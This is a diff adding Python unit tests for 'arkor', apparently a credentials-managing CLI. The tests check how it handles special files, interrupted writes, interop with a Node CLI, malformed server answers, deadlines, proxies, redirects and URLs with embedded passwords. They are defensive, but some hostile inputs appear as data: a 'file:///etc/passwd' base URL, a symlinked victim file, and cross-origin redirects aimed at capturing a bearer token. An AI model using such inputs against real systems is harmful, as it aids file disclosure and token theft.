+                        (1, "", f"{self.creds} is not a regular file; arkor does not read or remove it.\n"),
+                    )
+            self.assertTrue(stat.S_ISSOCK(os.lstat(self.creds).st_mode))
+        self.assertEqual(self.cloud.requests, [])
+
+    @unittest.skipUnless(POSIX and hasattr(os, "mkfifo"), "FIFOs")
+    def test_a_fifo_in_place_of_the_lock(self) -> None:
+        before = self.sign_in_anon()
+        lock = self.creds + ".lock"
+        os.mkfifo(lock)
+        code, out, err = _files_call_guarded(self, lambda: self.run_main("login", "--anonymous"), fifo=lock)
+        self.assertEqual(
+            (code, out, err), (1, "", f"{lock} is not a regular file; arkor does not read or remove it.\n")
+        )
+        self.assertEqual(self.cloud.seen(), [])  # nothing minted
+        self.assertTrue(stat.S_ISFIFO(os.lstat(lock).st_mode))
+        self.assertEqual(self.read_creds(), before)
+
+    def test_home_must_be_absolute(self) -> None:
+        cwd = tempfile.mkdtemp(prefix="arkor-cwd-")
+        self.addCleanup(shutil.rmtree, cwd, True)
+        self.addCleanup(os.chdir, os.getcwd())
+        os.chdir(cwd)
+        root_had_arkor = os.path.lexists("/.arkor")
+        commands = (["login", "--anonymous"], ["login"], ["whoami"], ["whoami", "--json"], ["logout", "-y"], ["logout"])
+        for home, problem in (("", "empty"), ("relative/dir", "relative (relative/dir)")):
+            for argv in commands:
+                with self.subTest(HOME=home, argv=argv):
+                    code, out, err = self.run_main(*argv, HOME=home, USERPROFILE=home)
+                    self.assertEqual(
+                        (code, out, err),
+                        (1, "", f"Cannot find your home directory: HOME is {problem}. Set it to an absolute path.\n"),
+                    )
+                    self.assertEqual(os.listdir(cwd), [])  # no ./.arkor, no ./relative
+                    self.assertEqual(os.path.lexists("/.arkor"), root_had_arkor)
+        self.assertFalse(os.path.exists(self.arkor_dir))
+        self.assertEqual(self.cloud.requests, [])
+
+    @unittest.skipUnless(POSIX and hasattr(os, "geteuid") and os.geteuid() != 0, "root reads mode-000 files")
+    def test_unreadable_file(self) -> None:
+        self.sign_in_anon()
+        os.chmod(self.creds, 0)
+        self.addCleanup(os.chmod, self.creds, 0o600)
+        code, _, err = self.run_main("whoami")
+        self.assertEqual((code, err), (1, f"Cannot read {self.creds}: Permission denied.\n"))
+
+    @unittest.skipUnless(POSIX, "error texts")
+    def test_arkor_dir_is_a_plain_file(self) -> None:
+        with open(self.arkor_dir, "w") as f:
+            f.write("not a directory")
+        code, out, err = self.run_main("login", "--anonymous")
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(err, f"Could not write {self.creds}.lock: File exists.\n")
+        self.assertEqual(self.cloud.requests, [])
+        code, out, err = self.run_main("whoami")
+        self.assertEqual((code, out, err), (1, "", f"Cannot read {self.creds}: Not a directory.\n"))
+        with open(self.arkor_dir) as f:
+            self.assertEqual(f.read(), "not a directory")
+
+    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
+    def test_a_symlinked_file_is_replaced_not_written_through(self) -> None:
+        os.makedirs(self.arkor_dir)
+        victim = os.path.join(self.home, "victim.txt")
+        with open(victim, "w") as f:
+            f.write("precious")
+        os.symlink(victim, self.creds)
+        code, _, _ = self.run_main("login", "--anonymous")
+        self.assertEqual(code, 0)
+        with open(victim) as f:
+            self.assertEqual(f.read(), "precious")
+        self.assertFalse(os.path.islink(self.creds))
+        self.assertEqual(self.read_creds()["mode"], "anon")
+
+    def test_write_failure_leaves_old_file_and_no_temp(self) -> None:
+        # The disk fills up half way: the old file must survive whole.
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
+            code, out, err = self.run_main("login", "--anonymous")
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(
+            err,
+            "Replacing the anonymous identity anon-stored; it cannot be restored.\n"
+            f"Could not write {self.creds}: No space left on device.\n",
+        )
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(self.leftovers(), [])
+
+    def test_interrupted_write_leaves_no_temp(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        with mock.patch.object(os, "replace", side_effect=KeyboardInterrupt):
+            code, _, err = self.run_main("login", "--anonymous")
+        self.assertEqual(
+            (code, err), (130, "Replacing the anonymous identity anon-stored; it cannot be restored.\nInterrupted.\n")
+        )
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(self.leftovers(), [])
+
+    @unittest.skipUnless(POSIX, "chmod semantics")
+    def test_chmod_refused_is_only_a_warning(self) -> None:
+        real_chmod = os.chmod
+
+        def refuse(path: Any, mode: int, *a: Any, **k: Any) -> None:
+            if str(path).endswith(".tmp"):
+                raise PermissionError(1, "Operation not permitted")
+            real_chmod(path, mode, *a, **k)
+
+        with mock.patch.object(os, "chmod", refuse):
+            code, _out, err = self.run_main("login", "--anonymous")
+        self.assertEqual(code, 0)
+        self.assertRegex(err, r"^Could not restrict the permissions of .*\.tmp: Operation not permitted\.\n$")
+        self.assertEqual(self.read_creds()["mode"], "anon")
+
+
+# Credentials files as the Node CLI writes them, of both eras: the seed page's
+# ("auth0" OAuth files without arkorCloudApiUrl) and today's ("oauth", and
+# anonymous files that may lack arkorCloudApiUrl). Each carries a field this
+# CLI does not know, as the Node CLI's Studio adds them. Tokens, hosts and
+# times are filled in by InteropTest.node_files.
+_INTEROP_STUDIO_PREFS = {"theme": "dark", "recent": ["proj-1", "proj-2"], "panel": {"width": 1.5, "open": True}}
+_INTEROP_NODE_FILES: dict[str, dict[str, Any]] = {
+    "seed anon": {
+        "mode": "anon",
+        "token": "<anon token>",
+        "anonymousId": "anon-node-seed",
+        "arkorCloudApiUrl": "<cloud-api>",
+        "orgSlug": "node-org-seed",
+        "studioPrefs": _INTEROP_STUDIO_PREFS,
+    },
+    "seed auth0": {
+        "mode": "auth0",
+        "accessToken": "<access token>",
+        "refreshToken": "<refresh token>",
+        "expiresAt": "<in an hour>",
+        "auth0Domain": "<auth0>",
+        "audience": "<audience>",
+        "clientId": "<client id>",
+        "studioPrefs": _INTEROP_STUDIO_PREFS,
+    },
+    "today oauth": {
+        "mode": "oauth",
+        "accessToken": "<access token>",
+        "refreshToken": "<refresh token>",
+        "expiresAt": "<in an hour>",
+        "auth0Domain": "<auth0>",
+        "audience": "<audience>",
+        "clientId": "<client id>",
+        "arkorCloudApiUrl": "<cloud-api>",
+        "studioPrefs": _INTEROP_STUDIO_PREFS,
+    },
+    "today anon": {
+        "mode": "anon",
+        "token": "<anon token>",
+        "anonymousId": "anon-node-today",
+        "orgSlug": "node-org-today",
+        "studioPrefs": _INTEROP_STUDIO_PREFS,
+    },
+}
+
+
+def _interop_node_token(data: dict[str, Any]) -> str:
+    """How both eras of the Node CLI pick the bearer token."""
+    return str(data["token"] if data["mode"] == "anon" else data["accessToken"])
+
+
+def _interop_node_bytes(data: dict[str, Any]) -> bytes:
+    """What the Node CLI writes: JSON.stringify(data, null, 2), no final newline."""
+    return json.dumps(data, indent=2).encode("utf-8")
+
+
+class InteropTest(OAuthCase):
+    """This CLI and the Node CLI share ~/.arkor/credentials.json: each reads,
+    renews and removes what the other wrote."""
+
+    # whoami for the fake Auth0's user.
+    ADA = (
+        '{\n  "id": "auth0|ada",\n  "email": "ada@example.com",\n  "name": "Ada Lovelace"\n}\n'
+        "Orgs: ada-personal, analytical\n"
+    )
+
+    def node_file(self, name: str, expires_in: int = 3600) -> dict[str, Any]:
+        """The fixture ``name`` with live tokens of the fakes filled in."""
+        data = dict(_INTEROP_NODE_FILES[name])
+        if data["mode"] == "anon":
+            data["token"] = f"node-token-{data['anonymousId']}"
+            self.cloud.add_token(data["token"], user={"id": data["anonymousId"]}, orgs=[{"slug": data["orgSlug"]}])
+        else:
+            tokens = self.auth0._issue(refresh=True)
+            data.update(
+                accessToken=tokens["access_token"],
+                refreshToken=tokens["refresh_token"],
+                expiresAt=int(time.time()) + expires_in,
+                auth0Domain=self.auth0.domain,
+                audience=self.auth0.audience,
+                clientId=self.auth0.client_id,
+            )
+        if "arkorCloudApiUrl" in data:
+            data["arkorCloudApiUrl"] = self.cloud.url
+        self.write_creds(_interop_node_bytes(data))
+        return data
+
+    def api(self, call: Callable[[], Any], **env: str | None) -> Any:
+        with mock.patch.dict(os.environ, self.env(**env), clear=True):
+            return call()
+
+    def test_every_command_reads_both_eras(self) -> None:
+        for name in _INTEROP_NODE_FILES:
+            with self.subTest(name):
+                self.cloud.requests.clear()
+                data = self.node_file(name)
+                raw = self.creds_bytes()
+                stored_base = data.get("arkorCloudApiUrl")
+                # Without arkorCloudApiUrl, the base is ARKOR_CLOUD_API_URL, else the default.
+                url = None if stored_base else self.cloud.url
+                # The Python API.
+                self.assertEqual(self.api(arkor_cli.read_credentials), data)
+                self.assertEqual(self.api(arkor_cli.get_token), _interop_node_token(data))
+                self.assertEqual(
+                    self.api(arkor_cli.cloud_api_url, ARKOR_CLOUD_API_URL="http://127.0.0.1:1"), "http://127.0.0.1:1"
+                )
+                self.assertEqual(
+                    self.api(arkor_cli.cloud_api_url, ARKOR_CLOUD_API_URL=None), stored_base or "https://api.arkor.ai"
+                )
+                # whoami and whoami --json, with the token the Node CLI would send.
+                if data["mode"] == "anon":
+                    identity = {"user": {"id": data["anonymousId"]}, "orgs": [{"slug": data["orgSlug"]}]}
+                    shown = f'{{\n  "id": "{data["anonymousId"]}"\n}}\nOrgs: {data["orgSlug"]}\n'
+                else:
+                    identity = {"user": self.auth0.user, "orgs": self.auth0.orgs}
+                    shown = self.ADA
+                self.assertEqual(self.run_main("whoami", ARKOR_CLOUD_API_URL=url), (0, shown, ""))
+                code, out, err = self.run_main("whoami", "--json", ARKOR_CLOUD_API_URL=url)
+                self.assertEqual((code, err), (0, ""))
+                self.assertEqual(json.loads(out), identity)
+                self.assertEqual(
+                    [(r.path, r.headers["authorization"]) for r in self.cloud.requests],
+                    [("/v1/me", f"Bearer {_interop_node_token(data)}")] * 2,
+                )
+                self.assertEqual(self.creds_bytes(), raw)  # read, never rewritten
+                # logout -y, revoking the OAuth refresh token.
+                revoked = len(self.auth0.revoked)
+                code, out, err = self.run_main("logout", "-y", ARKOR_CLOUD_API_URL=url)
+                self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
+                self.assertFalse(os.path.exists(self.creds))
+                if data["mode"] == "anon":
+                    self.assertEqual(
+                        err, f"The anonymous identity {data['anonymousId']} cannot be restored once deleted.\n"
+                    )
+                    self.assertEqual(len(self.auth0.revoked), revoked)
+                else:
+                    self.assertEqual(err, "")
+                    self.assertEqual(self.auth0.revoked[revoked:][0]["token"], data["refreshToken"])
+        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
+
+    def test_a_refresh_keeps_the_mode_tag_and_unknown_fields(self) -> None:
+        for name in ("seed auth0", "today oauth"):
+            for rotate in (False, True):
+                with self.subTest(name, rotate=rotate):
+                    self.auth0.rotate = rotate
+                    before = self.node_file(name, expires_in=10)  # within the refresh margin
+                    url = None if "arkorCloudApiUrl" in before else self.cloud.url
+                    self.assertEqual(self.run_main("whoami", ARKOR_CLOUD_API_URL=url), (0, self.ADA, ""))
+                    issued = self.auth0.issued[-1]
+                    after = self.read_creds()
+                    changed = {"accessToken", "expiresAt"} | ({"refreshToken"} if rotate else set())
+                    self.assertEqual(
+                        {k: v for k, v in after.items() if k not in changed},
+                        {k: v for k, v in before.items() if k not in changed},
+                    )
+                    self.assertEqual(set(after), set(before))
+                    self.assertEqual(after["accessToken"], issued["access_token"])
+                    self.assertNotEqual(after["accessToken"], before["accessToken"])
+                    self.assertEqual(
+                        after["refreshToken"], issued["refresh_token"] if rotate else before["refreshToken"]
+                    )
+                    self.assertGreater(after["expiresAt"], before["expiresAt"] + 3600)
+                    self.assertEqual(_interop_node_token(after), issued["access_token"])  # what Node sends next
+
+    def test_a_stored_base_url_that_is_not_http_makes_the_file_invalid(self) -> None:
+        for name in ("seed anon", "today oauth"):
+            for base in ("", "ftp://x", "https://u:p@host"):
+                for url in (self.cloud.url, None):  # invalid, whichever base would be used
+                    with self.subTest(name, base=base, ARKOR_CLOUD_API_URL=url):
+                        data = self.node_file(name)
+                        raw = self.write_creds(_interop_node_bytes(dict(data, arkorCloudApiUrl=base)))
+                        message = (
+                            f"{self.creds} does not hold valid arkor credentials (arkorCloudApiUrl is not an"
+                            " http(s) URL). Fix it, or sign in again with `arkor login`."
+                        )
+                        self.assertEqual(self.run_main("whoami", ARKOR_CLOUD_API_URL=url), (1, "", message + "\n"))
+                        with self.assertRaises(arkor_cli.ArkorError) as caught:
+                            self.api(arkor_cli.get_token, ARKOR_CLOUD_API_URL=url)
+                        self.assertEqual(caught.exception.message, message)
+                        self.assertEqual(self.creds_bytes(), raw)
+        self.assertEqual((self.cloud.requests, self.auth0.requests), ([], []))
+
+    def test_node_reads_what_this_cli_writes(self) -> None:
+        code, _, _ = self.run_main("login", "--anonymous")
+        self.assertEqual(code, 0)
+        (token,) = self.cloud.tokens
+        with open(self.creds, "rb") as f:
+            raw = f.read()
+        self.assertFalse(raw.startswith(b"\xef\xbb\xbf"))  # JSON.parse refuses a BOM
+
+        def refuse(constant: str) -> Any:
+            raise AssertionError(f"{constant} is not JSON")
+
+        data = json.loads(raw.decode("utf-8"), parse_constant=refuse)
+        self.assertEqual(_interop_node_token(data), token)
+        self.assertEqual(
+            data,
+            {
+                "mode": "anon",
+                "token": token,
+                "anonymousId": "anon-0001",
+                "arkorCloudApiUrl": self.cloud.url,
+                "orgSlug": "anon-org-0001",
+            },
+        )
+
+
+# ---------------------------------------------------------------------------
+# HTTP: answers, one deadline, URLs, proxies, trust
+# ---------------------------------------------------------------------------
+
+
+class BadAnswersTest(Case):
+    """Whatever the server does, one clear line and a status, never a crash."""
+
+    def setUp(self) -> None:
+        super().setUp()
+        self.sign_in_anon()
+        self.before = self.creds_bytes()
+
+    def tearDown(self) -> None:
+        self.assertEqual(self.creds_bytes(), self.before, "whoami changed the credentials file")
+        super().tearDown()
+
+    def whoami_fails(self, message: str, **env: str | None) -> None:
+        code, out, err = self.run_main("whoami", **env)
+        self.assertEqual((code, out, err), (1, "", message + "\n"))
+
+    def test_wrongly_shaped_bodies(self) -> None:
+        def unexpected(what: str) -> str:
+            return f"Unexpected answer from GET {self.cloud.url}/v1/me (200): {what}."
+
+        not_json = "not JSON (Expecting value (line 1, column 1)): "
+        cases = [
+            # An HTML page is quoted as its title alone, on one line.
+            (
+                Answer(200, body=b"<html><head><title>Welcome\n home</title></head><h1>Welcome</h1></html>"),
+                unexpected(not_json + "an HTML page, 'Welcome home'"),
+            ),
+            (Answer(200, body=b""), unexpected(not_json + "(empty body)")),
+            (
+                Answer(200, body=b"\xff\xfe\x00"),
+                unexpected(
+                    "not JSON ('utf-8' codec can't decode byte 0xff in position 0: invalid start byte):"
+                    " \ufffd\ufffd\\u0000"
+                ),
+            ),
+            (Answer(200, json_body=[]), unexpected("not a JSON object")),
+            (Answer(200, {"user": "ada"}), unexpected("user is not valid")),
+            (Answer(200, {"orgs": []}), unexpected("missing user")),
+            (Answer(200, {"user": {}, "orgs": "o"}), unexpected("orgs is not valid")),
+            (Answer(200, {"user": {}, "orgs": [1]}), unexpected("orgs is not valid")),
+        ]
+        for answer, message in cases:
+            with self.subTest(message):
+                self.cloud.script("GET", "/v1/me", answer)
+                self.whoami_fails(message)
+
+    def test_long_bodies_are_shortened_in_messages(self) -> None:
+        self.cloud.script("GET", "/v1/me", Answer(200, body=b"x" * 5000))
+        code, _, err = self.run_main("whoami")
+        self.assertEqual(code, 1)
+        self.assertEqual(
+            err,
+            f"Unexpected answer from GET {self.cloud.url}/v1/me (200): not JSON (Expecting value (line 1, column 1)): "
+            + "x" * 199
+            + "\u2026.\n",
+        )
+
+    def test_five_mib_body(self) -> None:
+        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": "' + b"a" * (5 * 1024 * 1024) + b'"}'))
+        self.whoami_fails(
+            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it."
+        )
+
+    def test_body_cap_stops_reading_early(self) -> None:
+        # A server that promises 100 MiB and stalls after 2: arkor must stop at
+        # the cap at once, not wait for the rest (which would time out).
+        self.cloud.script(
+            "GET", "/v1/me", Answer(200, body=b"a" * (2 * 1024 * 1024), content_length=100 * 1024 * 1024, hold=60)
+        )
+        self.whoami_fails(
+            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it.",
+            ARKOR_HTTP_TIMEOUT="5",
+        )
+
+    def test_connection_closed_mid_body(self) -> None:
+        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": {"id"', content_length=1000))
+        self.whoami_fails(
+            f"Could not reach {self.cloud.url}/v1/me: the connection closed before the whole answer arrived"
+        )
+
+    def test_connection_refused(self) -> None:
+        url = f"http://127.0.0.1:{free_port()}"
+        self.whoami_fails(f"Could not reach {url}/v1/me: Connection refused", ARKOR_CLOUD_API_URL=url)
+
+    def test_failing_proxy_is_named(self) -> None:
+        port = free_port()
+        for variable in ("HTTP_PROXY", "http_proxy"):
+            with self.subTest(variable=variable):
+                self.whoami_fails(
+                    f"Could not reach {self.cloud.url}/v1/me: Connection refused (through the proxy"
+                    f" http://127.0.0.1:{port} from HTTP_PROXY; set NO_PROXY=127.0.0.1 to go direct)",
+                    **{variable: f"http://127.0.0.1:{port}"},
+                )
+        # NO_PROXY sends it direct, and the answer comes.
+        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
+        code, out, _ = self.run_main("whoami", HTTP_PROXY=f"http://127.0.0.1:{port}", NO_PROXY="127.0.0.1")
+        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
+
+    def test_unresolvable_host(self) -> None:
+        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL="http://no-such-host.invalid")
+        self.assertEqual((code, out), (1, ""))
+        self.assertTrue(
+            err.startswith("Could not reach http://no-such-host.invalid/v1/me: cannot resolve the host name"), err
+        )
+
+    def test_bad_timeout_setting(self) -> None:
+        for raw in ("soon", "0", "-3", "nan", ""):
+            with self.subTest(raw=raw):
+                if not raw:  # set but empty: the default
+                    self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
+                    self.assertEqual(self.run_main("whoami", ARKOR_HTTP_TIMEOUT=raw)[0], 0)
+                    continue
+                self.whoami_fails(
+                    f"ARKOR_HTTP_TIMEOUT is not a positive number of seconds: {raw!r}.",
+                    ARKOR_HTTP_TIMEOUT=raw,
+                )
+        for raw in ("inf", "1e300", "604801"):
+            with self.subTest(raw=raw):
+                self.whoami_fails(
+                    f"ARKOR_HTTP_TIMEOUT is more than a week (604800 seconds): {raw!r}.",
+                    ARKOR_HTTP_TIMEOUT=raw,
+                )
+        self.assertEqual(len(self.cloud.requests), 1)  # the one with the default timeout
+
+    def test_cross_origin_redirect_drops_the_token(self) -> None:
+        with FakeCloudApi() as elsewhere:
+            elsewhere.add_token("anon-token-stored", user={"id": "stolen"}, orgs=[])
+            # 127.0.0.1 and localhost are different origins, as are two ports.
+            for target in (elsewhere.url, f"http://localhost:{self.cloud.port}"):
+                with self.subTest(target=target):
+                    elsewhere.requests.clear()
+                    self.cloud.requests.clear()
+                    self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"))
+                    if target.startswith("http://localhost"):
+                        self.cloud.script("GET", "/v1/me", Answer.redirect(target + "/v1/me"), Answer(401))
+                    code, out, _ = self.run_main("whoami")
+                    self.assertEqual(code, 0)
+                    self.assertEqual(out, "Failed to fetch /v1/me (401). Token may be expired.\n")
+                    followed = elsewhere.requests if target == elsewhere.url else self.cloud.requests[1:]
+                    self.assertEqual(len(followed), 1, "the redirect was not followed")
+                    self.assertNotIn("authorization", followed[0].headers)
+
+    def test_same_origin_redirect_keeps_the_token(self) -> None:
+        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
+        self.cloud.script("GET", "/v1/me", Answer.redirect("/v1/me"), Answer(200, {"user": {"id": "u1"}, "orgs": []}))
+        code, out, _ = self.run_main("whoami")
+        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
+        second = self.cloud.requests[1]
+        self.assertEqual(second.headers["authorization"], "Bearer anon-token-stored")
+
+    def test_bad_base_url_in_the_file(self) -> None:
+        data = json.loads(self.before)
+        data["arkorCloudApiUrl"] = "file:///etc/passwd"
+        self.before = self.write_creds(data)
+        self.whoami_fails(
+            f"{self.creds} does not hold valid arkor credentials (arkorCloudApiUrl is not an http(s) URL)."
+            " Fix it, or sign in again with `arkor login`.",
+            ARKOR_CLOUD_API_URL=None,
+        )
+        self.assertEqual(self.cloud.requests, [])
+
+
+class DeadlineTest(Case):
+    """ARKOR_HTTP_TIMEOUT bounds each request as a whole: connect, TLS, the
+    status line, headers, any number of 1xx answers, chunk framing, trailers
+    and body. The hostile servers (fake_cloud.RawServer) drip a byte every
+    0.02 or 0.05 s, which no per-read timeout ever trips: without the one
+    deadline the command would run until the guard gives up on it. No test
+    measures time; the guard only fires when the product is broken. How far
+    a request got before its deadline is not asserted: a loaded machine may
+    spend the deadline sooner (loading the trust, the handshake), and that
+    ends in a timeout all the same."""
+
+    def deadline_run(self, server: Any, *argv: str, **env: str | None) -> tuple[int, str, str]:
+        """``run_main`` in a thread of its own, guarded: if it is still running
+        after 15 s the test fails. ``server`` (started here) is stopped either
+        way, which ends a hung command too."""
+        import threading
+
+        server.start()
+        self.addCleanup(server.stop)
+        outcome: list[tuple[int, str, str]] = []
+        thread = threading.Thread(target=lambda: outcome.append(self.run_main(*argv, **env)), daemon=True)
+        thread.start()
+        thread.join(15)
+        hung = thread.is_alive()
+        server.stop()  # wakes whatever the command waits on
+        thread.join(15)
+        if hung:
+            self.fail(f"arkor {' '.join(argv)} still ran 15 s after a deadline of {env.get('ARKOR_HTTP_TIMEOUT')} s")
+        self.assertEqual(len(outcome), 1, "main raised")
+        return outcome[0]
+
+    def assert_login_timed_out(self, server: Any, **env: str | None) -> None:
+        settings: dict[str, str | None] = {"ARKOR_CLOUD_API_URL": server.url, "ARKOR_HTTP_TIMEOUT": "0.2"}
+        settings.update(env)
+        code, out, err = self.deadline_run(server, "login", "--anonymous", **settings)
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(err, f"Could not reach {server.url}/v1/auth/anonymous: timed out\n")
+        self.assertFalse(os.path.exists(self.creds))
+        self.assertEqual(self.leftovers(), [])
+        self.assertEqual(self.cloud.requests, [])
+
+    def test_every_phase_of_the_answer(self) -> None:
+        from fake_cloud import (
+            RawServer,
+            drip_body,
+            drip_chunk_size,
+            drip_header,
+            drip_status,
+            endless_continue,
+            endless_trailer,
+            silent,
+        )
+
+        for behaviour in (
+            drip_status,
+            drip_header,
+            endless_continue,
+            drip_chunk_size,
+            endless_trailer,
+            drip_body,
+            silent,
+        ):
+            with self.subTest(behaviour.__name__):
+                # 0.1 s: over plain HTTP on loopback each phase is reached
+                # in milliseconds. (That the deadline does not end a request
+                # early, the refresh test shows: its whoami gets its answer.)
+                server = RawServer(behaviour() if behaviour is silent else behaviour(0.02))
+                self.assert_login_timed_out(server, ARKOR_HTTP_TIMEOUT="0.1")
+
+    def test_tls(self) -> None:
+        from fake_cloud import RawServer, endless_continue
+
+        # A handshake that never comes...
+        server = RawServer(tls=True, stall_handshake=True)
+        self.assert_login_timed_out(server, SSL_CERT_FILE=TEST_CA)
+        # ...and, inside a verified TLS connection, answers that never end.
+        server = RawServer(endless_continue(), tls=True)
+        self.assert_login_timed_out(server, SSL_CERT_FILE=TEST_CA)
+
+    def test_through_a_proxy_tunnel(self) -> None:
+        from fake_cloud import FakeProxy, RawServer, drip_body
+
+        server = RawServer(drip_body(), tls=True)
+        with FakeProxy() as proxy:
+            code, out, err = self.deadline_run(
+                server,
+                "login",
+                "--anonymous",
+                ARKOR_CLOUD_API_URL=server.url,
+                ARKOR_HTTP_TIMEOUT="0.5",  # the CONNECT must reach the proxy
+                SSL_CERT_FILE=TEST_CA,
+                HTTPS_PROXY=proxy.url,
+            )
+            self.assertEqual(proxy.seen, [("CONNECT", f"127.0.0.1:{server.port}")])
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(
+            err,
+            f"Could not reach {server.url}/v1/auth/anonymous: timed out (through the proxy {proxy.url}"
+            " from HTTPS_PROXY; set NO_PROXY=127.0.0.1 to go direct)\n",
+        )
+        self.assertFalse(os.path.exists(self.creds))
+
+    def oauth_creds(self, server: Any, expires_in: int) -> dict[str, Any]:
+        """OAuth credentials whose Auth0 is ``server``; the cloud-api knows the access token."""
+        data = self.auth0_creds()
+        data["auth0Domain"] = f"127.0.0.1:{server.port}"
+        data["expiresAt"] = int(time.time()) + expires_in
+        self.cloud.add_token(data["accessToken"], user={"id": "u1"}, orgs=[])
+        self.write_creds(data)
+        return data
+
+    def test_a_refresh_gives_up_and_the_command_goes_on(self) -> None:
+        from fake_cloud import RawServer, drip_header
+
+        server = RawServer(drip_header(), tls=True)
+        self.oauth_creds(server, expires_in=30)  # within the refresh margin
+        before = self.creds_bytes()
+        # 0.4 s: the same bound then serves whoami's own request to the (prompt) fake cloud-api.
+        code, out, err = self.deadline_run(server, "whoami", ARKOR_HTTP_TIMEOUT="0.4", SSL_CERT_FILE=TEST_CA)
+        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
+        self.assertEqual(
+            err,
+            f"Could not renew the access token (Could not reach https://127.0.0.1:{server.port}/oauth/token:"
+            " timed out); trying the stored one.\n",
+        )
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(len(self.cloud.seen("GET", "/v1/me")), 1)
+
+    def test_the_revocation_at_logout(self) -> None:
+        from fake_cloud import RawServer, drip_status
+
+        # The revocation is bounded, as a whole, by the smaller of its own
+        # 5 s and ARKOR_HTTP_TIMEOUT: its own bound is made 60 s here, so
+        # that only the smaller one can end it before the guard does.
+        server = RawServer(drip_status(), tls=True)
+        self.oauth_creds(server, expires_in=3600)
+        with mock.patch.object(arkor_cli, "_REVOKE_TIMEOUT", 60.0):
+            code, out, err = self.deadline_run(
+                server, "logout", "--yes", ARKOR_HTTP_TIMEOUT="0.2", SSL_CERT_FILE=TEST_CA
+            )
+        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
+        self.assertEqual(
+            err,
+            f"Could not revoke the refresh token (Could not reach https://127.0.0.1:{server.port}/oauth/revoke:"
+            " timed out); it stays valid until it expires.\n",
+        )
+        self.assertFalse(os.path.exists(self.creds))
+
+
+class UrlUserinfoTest(Case):
+    """A user name or password in a URL is sent nowhere (not even to DNS) and
+    printed nowhere: the base URL, a proxy's URL, a redirect's Location."""
+
+    def assert_nothing_leaked(self, *texts: str) -> None:
+        for text in texts:
+            for secret in ("alice", "PW", "bob", "SECRET"):
+                self.assertNotIn(secret, text)
+
+    def test_a_base_url_with_userinfo_is_refused_before_anything_is_sent(self) -> None:
+        import socket
+
+        port = self.cloud.port
+        self.sign_in_anon()
+        for base, shown in (
+            (f"http://alice:PW@127.0.0.1:{port}", f"http://***@127.0.0.1:{port}"),
+            (f"http://alice@127.0.0.1:{port}/", f"http://***@127.0.0.1:{port}"),
+            # A name that cannot resolve: the error is this line, not a failed lookup.
+            ("https://alice:PW@nonexistent.invalid", "https://***@nonexistent.invalid"),
+        ):
+            for argv in (("login", "--anonymous"), ("whoami",)):
+                with self.subTest(base=base, argv=argv):
+                    before = self.creds_bytes()
+                    with mock.patch.object(socket, "getaddrinfo", wraps=socket.getaddrinfo) as lookup:
+                        code, out, err = self.run_main(*argv, ARKOR_CLOUD_API_URL=base)
+                    self.assertEqual((code, out), (1, ""))
+                    self.assertEqual(
+                        err,
+                        f"ARKOR_CLOUD_API_URL holds a user name or password ({shown}); arkor sends it nowhere."
+                        " Remove it from the URL.\n",
+                    )
+                    self.assert_nothing_leaked(out, err)
+                    self.assertEqual(lookup.call_count, 0)
+                    self.assertEqual(self.cloud.requests, [])
+                    self.assertEqual(self.creds_bytes(), before)
+
+    def test_a_proxy_password_is_never_printed(self) -> None:
+        port = free_port()  # nothing listens: the proxy is unreachable
+        https_base = f"https://127.0.0.1:{free_port()}"
+        for variable, value, base in (
+            ("HTTP_PROXY", f"http://bob:SECRET@127.0.0.1:{port}", self.cloud.url),
+            ("http_proxy", f"bob:SECRET@127.0.0.1:{port}", self.cloud.url),  # no scheme: http:// is meant
+            ("HTTPS_PROXY", f"http://bob:SECRET@127.0.0.1:{port}", https_base),
+            ("https_proxy", f"http://bob:SE@CRET@127.0.0.1:{port}", https_base),  # an @ in the password
+        ):
+            with self.subTest(variable=variable, value=value):
+                code, out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=base, **{variable: value})
+                self.assertEqual((code, out), (1, ""))
+                self.assertEqual(
+                    err,
+                    f"Could not reach {base}/v1/auth/anonymous: Connection refused (through the proxy"
+                    f" http://***@127.0.0.1:{port} from {variable.upper()}; set NO_PROXY=127.0.0.1 to go direct)\n",
+                )
+                self.assert_nothing_leaked(out, err)
+
+    def test_a_redirect_to_a_url_with_userinfo_is_not_followed(self) -> None:
+        self.sign_in_anon()
+        target = f"http://alice:PW@127.0.0.1:{self.cloud.port}/v1/me"
+        self.cloud.script("GET", "/v1/me", Answer.redirect(target), Answer(200, {"user": {"id": "followed"}}))
+        code, out, err = self.run_main("whoami")
+        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (302). Token may be expired.\n", ""))
+        self.assertEqual(len(self.cloud.requests), 1)
+        self.assert_nothing_leaked(out, err)
+
+
+class ErrorTextTest(Case):
+    """An error names the full URL that was asked, quotes at most one line of
+    a body (an HTML page by its title), and says what to check."""
+
+    def login_fails(self, message: str, **env: str | None) -> None:
+        code, out, err = self.run_main("login", "--anonymous", **env)
+        self.assertEqual((code, out, err), (1, "", message + "\n"))
